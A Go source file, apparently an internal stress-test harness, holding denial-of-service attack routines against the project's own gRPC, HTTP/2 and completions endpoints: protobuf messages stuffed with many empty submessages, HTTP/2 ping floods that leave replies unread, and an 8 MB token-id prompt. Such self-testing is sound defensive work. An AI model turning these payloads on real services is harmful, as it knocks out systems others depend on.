package attack

import (
	"bytes"
	"context"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"google.golang.org/grpc"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"

	"github.com/kvasir-dev/kvasir/internal/reportpb"
	"github.com/kvasir-dev/kvasir/internal/rpc"
)

// What is small on the wire and large in memory.

// manyEmpty is a message with n empty messages in a field of one of its own.
func manyEmpty(outer, inner protowire.Number, n int) []byte {
	raw := bytes.Repeat([]byte{byte(inner)<<3 | byte(protowire.BytesType), 0}, n)
	return protowire.AppendBytes(protowire.AppendTag(nil, outer, protowire.BytesType), raw)
}

// asSent is a codec for messages that are encoded already.
type asSent struct{}

func (asSent) Marshal(v any) ([]byte, error)     { return v.([]byte), nil }
func (asSent) Unmarshal(raw []byte, v any) error { *v.(*[]byte) = bytes.Clone(raw); return nil }
func (asSent) Name() string                      { return "proto" }

// encoded sends messages on a stream, and waits for its end, for a while.
func encoded(ctx context.Context, c *grpc.ClientConn, method string, messages ...[]byte) {
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	s, err := c.NewStream(ctx, &grpc.StreamDesc{ClientStreams: true, ServerStreams: true}, method, grpc.ForceCodec(asSent{}))
	for _, m := range messages {
		if err == nil {
			err = s.SendMsg(m)
		}
	}
	for err == nil {
		var raw []byte
		err = s.RecvMsg(&raw)
	}
}

// emptyHeaders sends messages of headers of two bytes through a gateway, and of bodies nothing.
func (a *army) emptyHeaders(ctx context.Context, worker int) {
	c, err := plain(a.at.ExtProc)
	if err != nil {
		return
	}
	defer func() { _ = c.Close() }()
	raw, _ := proto.Marshal(headers(badKey, "/v1/chat/completions"))
	n := []int{1<<19 - 1<<10, 25_000}[worker%2] // more than a message can have, and fewer
	more := protowire.AppendBytes(protowire.AppendTag(nil, 2, protowire.BytesType), manyEmpty(1, 1, n))
	encoded(ctx, c, processMethod, append(raw, more...))
	pause(ctx, 100*time.Millisecond)
}

// emptyChanges sends changes of two bytes in place of a hello, and after one.
func (a *army) emptyChanges(ctx context.Context, worker int) {
	c, err := plain(a.at.Reports)
	if err != nil {
		return
	}
	defer func() { _ = c.Close() }()
	hello, _ := proto.Marshal(&reportpb.ReporterMessage{Kind: &reportpb.ReporterMessage_Hello{Hello: &reportpb.Hello{Protocol: 1, Pod: "uid-3"}}})
	messages := [][]byte{hello, manyEmpty(4, 2, 2<<20-100)}
	encoded(authorized(ctx), c, rpc.Report_Push_FullMethodName, messages[worker%2:]...)
	pause(ctx, 300*time.Millisecond)
}

// unreadPings sends pings on a connection of HTTP/2 and reads none of the answers.
func (a *army) unreadPings(ctx context.Context, worker int) {
	c, end := a.dial(ctx, []string{a.at.Proxy, a.at.ExtProc, a.at.Metrics}[worker%3], worker)
	if c == nil {
		return
	}
	defer end()
	_ = c.(*net.TCPConn).SetReadBuffer(1)
	var pings bytes.Buffer
	for range 100 {
		_ = http2.NewFramer(&pings, nil).WritePing(false, [8]byte{})
	}
	_, err := io.WriteString(c, http2.ClientPreface)
	_ = http2.NewFramer(c, nil).WriteSettings()
	for n := 0; err == nil && n < 4000 && ctx.Err() == nil; n++ { // sockets take a part of the answers
		_, err = c.Write(pings.Bytes())
	}
	pause(ctx, time.Second)
}

// promptOfIDs sends a prompt of token ids of two bytes each.
func (a *army) promptOfIDs(ctx context.Context, worker int) {
	body := []byte(`{"model":"m","max_tokens":1,"prompt":[0` + strings.Repeat(",0", 8<<20) + `]}`)
	a.exchange(ctx, worker, post("/v1/completions", badKey, len(body)), body)
}
